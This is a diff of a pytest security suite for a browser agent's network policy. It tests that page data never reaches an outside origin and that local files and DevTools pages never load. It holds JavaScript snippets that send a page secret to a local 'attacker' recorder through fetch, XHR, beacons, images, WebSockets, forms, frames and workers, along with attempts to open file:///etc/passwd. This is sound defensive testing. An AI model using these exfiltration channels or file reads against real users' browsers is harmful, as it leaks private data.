@@ -1,10 +1,13 @@
 """Nothing leaves the agent's tabs for a site outside the task, and local files and browser pages never
 load: the app's own network policy (`sandbox/network.py`), on its own DevTools connection.
 
-The model's code runs as the agent runs it (`guarded_code`, the real MCP server, real Chromium). The
-"attacker" is a local server that records every request (`tests/support/recorder.py`); each test that
-asserts it received nothing first waits for a positive control: a request the policy lets through,
-sent after the attempt, which the recorder does see.
+The model's code runs as the agent runs it (`guarded_code`, the real MCP server, real Chromium); it
+cannot send anything from inside the page itself (tests/security/test_attacks.py), so the senders here
+are the page's own scripts, set off by an ordinary click of the model's (every channel a page has:
+fetch, XHR, beacons, images, WebSockets, forms, navigations, popups, frames, workers), and the model's
+own navigations. The "attacker" is a local server that records every request
+(`tests/support/recorder.py`); each test that asserts it received nothing first waits for a positive
+control: a request the policy lets through, sent after the attempt, which the recorder does see.
 """
 
 from __future__ import annotations
@@ -13,6 +16,7 @@ import asyncio
 import json
 import secrets
 import string
+import urllib.parse
 import urllib.request
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
@@ -34,7 +38,7 @@ from tests.support.agent import make_runner
 from tests.support.processes import pids_mentioning
 from tests.support.recorder import SECRET, Recorder
 from tests.support.scripted_model import code, say
-from tests.support.waiting import async_wait_until
+from tests.support.waiting import async_wait_until, eventually
 
 
 @pytest.fixture(scope="module")
@@ -57,7 +61,7 @@ async def listed(
 
 async def boxed(session: BrowserSession, source: str) -> CodeResult:
     """The model's code, as the agent runs it."""
-    return await session.run_code(guarded_code(source, None, preflight=False))
+    return await session.run_code(guarded_code(source))
 
 
 async def raw(session: BrowserSession, source: str) -> Any:
@@ -93,88 +97,59 @@ async def control(session: BrowserSession, recorder: Recorder, origin: str) -> s
     return path
 
 
-# The ways a page's data can leave, as the model would write them. `to`: the attacker's origin;
-# `secret`: what the page shows. Each waits, in the page or in Playwright, until the attempt is over.
+# The ways a page's data can leave: the page's own channels (tests/support/recorder.py SECRET_PAGE),
+# each set off by a click of the model's on an ordinary button, and the model's own navigations.
+PAGE_CHANNELS = [
+    "fetch",
+    "xhr",
+    "beacon",
+    "image",
+    "image-path",
+    "socket",
+    "form",
+    "location",
+    "open",
+    "frame",
+    "worker",
+]
 CHANNELS: dict[str, str] = {
-    "a fetch POST": (
-        "await page.evaluate(([to, s]) => fetch(to + '/collect', { method: 'POST', body: s })"
-        ".then(() => 'sent', () => 'failed'), [to, secret]);"
-    ),
-    "an XHR": (
-        "await page.evaluate(([to, s]) => new Promise((done) => { const x = new XMLHttpRequest();"
-        " x.open('POST', to + '/xhr'); x.onloadend = () => done(x.status); x.send(s); }), [to, secret]);"
-    ),
-    "navigator.sendBeacon": (
-        "await page.evaluate(([to, s]) => navigator.sendBeacon(to + '/beacon', s), [to, secret]);"
-    ),
-    "an image beacon": (
-        "await page.evaluate(([to, s]) => new Promise((done) => { const i = new Image();"
-        " i.onload = i.onerror = () => done(1); i.src = to + '/pixel.gif?d=' + encodeURIComponent(s); }),"
-        " [to, secret]);"
-    ),
-    "an image beacon with the data in its path": (
-        "await page.evaluate(([to, s]) => new Promise((done) => { const i = new Image();"
-        " i.onload = i.onerror = () => done(1); i.src = to + '/' + s.replace(/ /g, ''); }), [to, secret]);"
-    ),
-    "a WebSocket": (
-        "await page.evaluate(([to, s]) => new Promise((done) => {"
-        " const w = new WebSocket(to.replace('http', 'ws') + '/socket?d=' + encodeURIComponent(s));"
-        " w.onerror = w.onclose = () => done(0); }), [to, secret]);"
-    ),
-    "a form submitted to the attacker": (
-        "await page.evaluate(([to, s]) => { const f = document.createElement('form');"
-        " f.action = to + '/search'; const i = document.createElement('input'); i.name = 'q'; i.value = s;"
-        " const b = document.createElement('button'); b.id = 'bc-search'; b.textContent = 'Search';"
-        " f.append(i, b); document.body.append(f); }, [to, secret]);"
-        " const moved = page.waitForEvent('framenavigated').catch(() => 0);"
-        " await page.click('#bc-search'); await moved;"
-    ),
-    "location.href": (
-        "const moved = page.waitForEvent('framenavigated').catch(() => 0);"
-        " await page.evaluate(([to, s]) => { location.href = to + '/?q=' + encodeURIComponent(s); },"
-        " [to, secret]); await moved;"
-    ),
-    "window.open": (
-        "await page.evaluate(([to, s]) => { window.open(to + '/?q=' + encodeURIComponent(s)); },"
-        " [to, secret]);"
-    ),
+    **{
+        f"the page's {c}": f"await page.locator('#ch-{c}').click(); await settle(page);"
+        for c in PAGE_CHANNELS
+    },
+    "the page's own script, on a click": "await page.click('#details'); await settle(page);",
+    "the model's goto": "await page.goto(to + '/?q=' + encodeURIComponent(secret)).catch(() => 0);",
     "a new page's goto": (
         "const tab = await page.context().newPage();"
         " await tab.goto(to + '/?q=' + encodeURIComponent(secret)).catch(() => 0);"
     ),
-    "an iframe's src": (
-        "await page.evaluate(([to, s]) => new Promise((done) => { const f = document.createElement('iframe');"
-        " f.onload = () => done(1); f.src = to + '/frame.html?d=' + encodeURIComponent(s);"
-        " document.body.append(f); }), [to, secret]);"
-    ),
-    "a worker's fetch": (
-        "await page.evaluate(([to, s]) => new Promise((done) => { const w = new Worker(URL.createObjectURL("
-        'new Blob([\'onmessage = (e) => fetch(e.data, { method: "POST", body: "x" })'
-        ".then(() => postMessage(1), () => postMessage(0))'], { type: 'text/javascript' })));"
-        " w.onmessage = () => done(1); w.postMessage(to + '/worker?d=' + encodeURIComponent(s)); }),"
-        " [to, secret]);"
-    ),
-    "the page's own script, on a click": (
-        "await page.evaluate((to) => { document.body.dataset.to = to; }, to); await page.click('#details');"
-    ),
 }
+SETTLE = "const settle = (p) => p.waitForTimeout(200);"
+"""A page's send may leave a moment after its click: the attempt gives it that moment."""
 
 
 def attempt(channel: str, to: str) -> str:
     return (
-        "async (page) => { const secret = await page.textContent('#secret');"
+        f"async (page) => {{ {SETTLE} const secret = await page.textContent('#secret');"
         f" const to = {json.dumps(to)}; {CHANNELS[channel]} }}"
     )
 
 
-async def open_secret(session: BrowserSession, recorder: Recorder) -> None:
-    await session.goto(recorder.origin + "/secret.html")
+async def open_secret(session: BrowserSession, recorder: Recorder, to: str = "", url: str = "") -> None:
+    query = "&".join(f"{k}={v}" for k, v in (("to", to), ("url", url)) if v)
+    await session.goto(recorder.origin + "/secret.html" + (f"?{query}" if query else ""))
     session.refusals()
 
 
 def leaked(recorder: Recorder, attacker: str, allowed: set[str]) -> list[str]:
     """What the attacker received, besides the paths a test let through on purpose."""
     return [f"{h.method} {h.path} {h.body}" for h in recorder.to(attacker) if h.path not in allowed]
+
+
+async def raw_tabs(session: BrowserSession, count: int) -> list[str] | None:
+    """The tabs' addresses once there are `count` of them again (else None)."""
+    urls: list[str] = await raw(session, "async (page) => page.context().pages().map((p) => p.url())")
+    return urls if len(urls) == count else None
 
 
 async def attacker_tabs(session: BrowserSession, attacker: str) -> list[str]:
@@ -187,7 +162,7 @@ async def test_page_data_does_not_leave_for_a_site_outside_the_task(
     browser_session: BrowserSession, recorder: Recorder, channel: str
 ) -> None:
     attacker = recorder.attacker()
-    await open_secret(browser_session, recorder)
+    await open_secret(browser_session, recorder, attacker)
     await boxed(browser_session, attempt(channel, attacker))
     path = await control(browser_session, recorder, attacker)  # a plain GET to it carries no data
     assert leaked(recorder, attacker, {path}) == []
@@ -200,7 +175,7 @@ async def test_with_allowed_domains_nothing_leaves_for_another_domain(
     listed: BrowserSession, recorder: Recorder, channel: str
 ) -> None:
     attacker = recorder.attacker()
-    await open_secret(listed, recorder)
+    await open_secret(listed, recorder, attacker)
     await boxed(listed, attempt(channel, attacker))
     await control(listed, recorder, recorder.origin)
     assert leaked(recorder, attacker, set()) == []
@@ -211,33 +186,26 @@ async def test_with_allowed_domains_a_plain_request_to_another_domain_never_leav
     listed: BrowserSession, recorder: Recorder
 ) -> None:
     attacker = recorder.attacker()
-    await open_secret(listed, recorder)
+    await open_secret(listed, recorder, attacker)
     result = await boxed(
         listed,
-        "async (page) => { const out = [];"
-        f" const to = {json.dumps(attacker)};"
-        " out.push(await page.evaluate((u) => fetch(u).then(() => 'sent', () => 'failed'), to + '/plain'));"
+        f"async (page) => {{ {SETTLE} const out = []; const to = {json.dumps(attacker)};"
+        " await page.locator('#ch-plain').click(); await settle(page);"
         " out.push(await page.goto(to + '/').then(() => 'loaded', (e) => String(e))); return out; }",
     )
     await control(listed, recorder, recorder.origin)
     assert recorder.to(attacker) == []
-    assert result.ok and result.value[0] == "failed" and "ERR_BLOCKED_BY_CLIENT" in result.value[1]
+    assert result.ok and "ERR_BLOCKED_BY_CLIENT" in result.value[0]
     notes = listed.refusals()
     assert any("is not on the allowed list (ALLOWED_DOMAINS)" in r.why for r in notes), notes
 
 
-async def test_a_request_the_page_made_later_from_a_timer_the_code_left_is_refused_too(
+async def test_a_request_the_page_sends_later_on_a_timer_of_its_own_is_refused_too(
     browser_session: BrowserSession, recorder: Recorder
 ) -> None:
     attacker = recorder.attacker()
-    await open_secret(browser_session, recorder)
-    await boxed(
-        browser_session,
-        "async (page) => { const secret = await page.textContent('#secret');"
-        " await page.evaluate(([to, s]) => { setTimeout(() =>"
-        " fetch(to + '/later', { method: 'POST', body: s })"
-        f".catch(() => 0), 300); }}, [{json.dumps(attacker)}, secret]); }}",
-    )
+    await open_secret(browser_session, recorder, attacker)
+    await boxed(browser_session, "async (page) => { await page.locator('#ch-later').click() }")
     guard = browser_session.network
     assert guard is not None
     # No code call runs while the timer fires: the agent's tab is covered between calls too.
@@ -266,9 +234,7 @@ async def test_what_a_page_loads_while_it_loads_passes_and_the_visited_site_join
         browser_session, f"async (page) => {{ await page.goto({json.dumps(other + '/frame.html')}); }}"
     )
     await boxed(
-        browser_session,
-        # A read (the model's page code sends nothing itself: tests/security/test_page_writes.py).
-        f"async (page) => {{ await page.evaluate((u) => fetch(u),  {json.dumps(other + '/search?q=1')}); }}",
+        browser_session, f"async (page) => {{ await page.goto({json.dumps(other + '/search?q=1')}); }}"
     )
     await async_wait_until(
         lambda: any(h.path == "/search?q=1" for h in recorder.to(other)), what="the search"
@@ -299,38 +265,21 @@ URLS = {
 }
 WAYS: dict[str, str] = {
     "page.goto": (
-        "await page.goto(u).catch(() => 0); return [[page.url(), await page.content().catch(() => '')]];"
-    ),
-    "location.href": (
-        "const moved = page.waitForEvent('framenavigated', { timeout: 500 }).catch(() => 0);"
-        " await page.evaluate((u) => { location.href = u; }, u); await moved;"
-        " return [[page.url(), await page.content().catch(() => '')]];"
-    ),
-    "window.open": (
-        "await page.evaluate((u) => { window.open(u); }, u);"
-        " await page.waitForTimeout(300);"
-        " return Promise.all(page.context().pages().map(async (p) =>"
-        " [p.url(), await p.content().catch(() => '')]));"
+        "await page.goto(u).catch(() => 0); return [[page.url(), await page.title().catch(() => '')]];"
     ),
     "a new page": (
         "const tab = await page.context().newPage(); await tab.goto(u).catch(() => 0);"
-        " return [[tab.url(), await tab.content().catch(() => '')]];"
+        " return [[tab.url(), await tab.title().catch(() => '')]];"
     ),
-    "a link click": (
-        "await page.evaluate((u) => { const a = document.createElement('a'); a.href = u; a.id = 'bc-go';"
-        " a.textContent = 'Open'; document.body.append(a); }, u);"
-        " const moved = page.waitForEvent('framenavigated', { timeout: 500 }).catch(() => 0);"
-        " await page.click('#bc-go'); await moved;"
-        " return [[page.url(), await page.content().catch(() => '')]];"
-    ),
-    "an iframe": (
-        "await page.evaluate((u) => new Promise((done) => { const f = document.createElement('iframe');"
-        " f.onload = () => done(1); f.src = u; document.body.append(f); setTimeout(done, 1000); }), u);"
-        # A frame Chrome refused to load never gets a context: bound the read (content() would wait).
-        " const read = (f) => Promise.race([f.content().catch(() => ''),"
-        " new Promise((done) => setTimeout(() => done(''), 500))]);"
-        " return Promise.all(page.frames().map(async (f) => [f.url(), await read(f)]));"
-    ),
+    # The page's own script, on an ordinary click of the model's.
+    **{
+        f"the page's {c}": (
+            f"await page.locator('#ch-{c}').click(); await page.waitForTimeout(300);"
+            " return Promise.all(page.context().pages().map(async (p) =>"
+            " [p.url(), await p.locator('body').innerText({ timeout: 500 }).catch(() => '')]));"
+        )
+        for c in ("location", "open", "frame", "link")
+    },
 }
 
 
@@ -341,7 +290,8 @@ async def test_local_files_and_browser_pages_never_load_however_the_url_is_built
     built, texts = URLS[scheme]
     read: list[tuple[str, str]] = []
     for way, body in WAYS.items():
-        await open_secret(browser_session, recorder)
+        address = await raw(browser_session, f"async () => {built}")
+        await open_secret(browser_session, recorder, url=urllib.parse.quote(address, safe=""))
         result = await boxed(browser_session, f"async (page) => {{ const u = {built}; {body} }}")
         assert result.ok or "Refused" in (result.error or "") or "Error" in (result.error or ""), (
             way,
@@ -354,20 +304,27 @@ async def test_local_files_and_browser_pages_never_load_however_the_url_is_built
     assert [u for u in left if u.startswith(("file:", "chrome:", "view-source:", "devtools:"))] == []
 
 
-async def test_a_tab_the_code_opens_on_a_refused_url_is_closed(
+async def test_a_tab_the_page_opens_on_a_refused_url_after_an_input_is_closed(
     browser_session: BrowserSession, recorder: Recorder
 ) -> None:
-    await open_secret(browser_session, recorder)
-    before = len(await raw(browser_session, "async (page) => page.context().pages()"))
-    result = await boxed(
-        browser_session,
-        "async (page) => { const tab = await page.context().newPage();"
-        " return await tab.goto('fi' + 'le:///etc/passwd').then(() => 'loaded', (e) => String(e)); }",
-    )
-    assert result.ok and "ERR_BLOCKED_BY_CLIENT" in result.value
-    tabs = await raw(browser_session, "async (page) => page.context().pages().map((p) => p.url())")
-    assert len(tabs) == before and not any(u.startswith("file:") for u in tabs)
-    assert any("file: URLs are never loaded" in r.why for r in browser_session.refusals())
+    """The page's popup (after the model's ordinary click) to an address the policy refuses (the browser's
+    DevTools endpoint): closed, and said; a local file the browser refuses itself never opens either."""
+    assert browser_session.endpoint is not None
+    devtools = browser_session.endpoint.url.replace("127.0.0.1", "localhost") + "/json/version"
+    for address, why in ((devtools, "DevTools endpoint"), ("file:///etc/passwd", None)):
+        await open_secret(browser_session, recorder, url=urllib.parse.quote(address, safe=""))
+        before = len(await raw(browser_session, "async (page) => page.context().pages()"))
+        result = await boxed(
+            browser_session,
+            "async (page) => { await page.locator('#ch-open').click(); await page.waitForTimeout(300) }",
+        )
+        assert result.ok, result.error
+        tabs = await eventually(
+            lambda count=before: raw_tabs(browser_session, count), what="the refused tab to close"
+        )
+        assert not any(u.startswith(("file:", devtools)) for u in tabs)
+        if why:
+            assert any(why in r.why for r in browser_session.refusals())
 
 
 async def test_the_devtools_endpoint_is_never_loaded_by_the_agent(browser_session: BrowserSession) -> None:
@@ -376,10 +333,11 @@ async def test_the_devtools_endpoint_is_never_loaded_by_the_agent(browser_sessio
     result = await boxed(
         browser_session,
         f"async (page) => {{ const e = {json.dumps(endpoint)} + '/json/' + 'version'; const out = [];"
-        " out.push(await page.evaluate((u) => fetch(u).then((r) => r.text(), (x) => String(x)), e));"
-        " out.push(await page.goto(e).then(async () => await page.content(), (x) => String(x)));"
+        " const read = (p) => p.locator('body').innerText();"
+        " out.push(await page.goto(e).then(() => read(page), (x) => String(x)));"
         " const tab = await page.context().newPage();"
-        " out.push(await tab.goto(e).then(async () => await tab.content(), (x) => String(x))); return out; }",
+        " out.push(await tab.goto(e).then(() => read(tab), (x) => String(x)));"
+        " return out; }",
     )
     assert result.ok, result.error
     assert not any("webSocketDebuggerUrl" in text for text in result.value), result.value
@@ -393,14 +351,12 @@ async def test_with_blocked_domains_a_blocked_site_never_loads_in_a_new_tab(
     host = blocked.split("://")[1].split(":")[0]
     settings = make_settings(tmp_path, cdp_endpoint=external_browser.endpoint.url, blocked_domains=host)
     async with BrowserSession(settings, root=ROOT) as session:
-        await open_secret(session, recorder)
+        await open_secret(session, recorder, url=urllib.parse.quote(blocked + "/", safe=""))
         before = len(await raw(session, "async (page) => page.context().pages()"))
         for way in (
             "const tab = await page.context().newPage(); await tab.goto(to).catch(() => 0);",
-            "await page.evaluate((u) => { window.open(u); }, to);",
-            "await page.evaluate((u) => { const a = document.createElement('a'); a.href = u;"
-            " a.target = '_blank'; a.id = 'bc-new'; a.textContent = 'Open'; document.body.append(a); }, to);"
-            " await page.click('#bc-new');",
+            "await page.locator('#ch-open').click(); await page.waitForTimeout(300);",
+            "await page.locator('#ch-link').click(); await page.waitForTimeout(300);",
         ):
             await boxed(session, f"async (page) => {{ const to = {json.dumps(blocked + '/')}; {way} }}")
         await control(session, recorder, recorder.origin)
@@ -457,8 +413,8 @@ async def test_after_the_policys_connection_drops_it_reconnects_before_code_runs
     await guard._cdp.close()  # the WebSocket drops (not a stop)
     assert not guard.connected
     attacker = recorder.attacker()
-    await open_secret(browser_session, recorder)
-    await boxed(browser_session, attempt("an image beacon", attacker))
+    await open_secret(browser_session, recorder, attacker)
+    await boxed(browser_session, attempt("the page's image", attacker))
     assert guard.connected
     path = await control(browser_session, recorder, attacker)
     assert leaked(recorder, attacker, {path}) == []
@@ -481,9 +437,9 @@ async def test_no_code_runs_while_the_policy_cannot_connect(
         await guard.stop()
         monkeypatch.setattr(guard, "start", cannot)
         with pytest.raises(BrowserUnavailable, match="network policy"):
-            await boxed(session, "async (page) => { await page.evaluate(() => { window.__bcRan = 1; }); }")
+            await boxed(session, "async (page) => { await page.goto('about:blank#bc-ran') }")
         monkeypatch.setattr(guard, "start", real_start)
-        assert await raw(session, "async (page) => page.evaluate(() => window.__bcRan ?? null)") is None
+        assert "bc-ran" not in await raw(session, "async (page) => page.url()")
         assert external_browser.process.poll() is None  # the user's browser is never killed
     await async_wait_until(lambda: not pids_mentioning(str(tmp_path)), what="the MCP server to exit")
 
@@ -504,10 +460,10 @@ async def test_a_relaunched_browser_is_covered_again(
         await async_wait_until(
             lambda: not pids_mentioning(str(settings.profile_dir)), what="the launched browser to exit"
         )
-        await open_secret(session, recorder)  # the first call finds the browser gone and relaunches it
-        assert session.restarts["browser"] == 1 and session.network is not None and session.network.connected
         attacker = recorder.attacker()
-        await boxed(session, attempt("an image beacon", attacker))
+        await open_secret(session, recorder, attacker)  # the first call finds the browser gone, relaunches it
+        assert session.restarts["browser"] == 1 and session.network is not None and session.network.connected
+        await boxed(session, attempt("the page's image", attacker))
         path = await control(session, recorder, attacker)
         assert leaked(recorder, attacker, {path}) == []
     await async_wait_until(lambda: not pids_mentioning(str(tmp_path)), what="the browser and the MCP server")
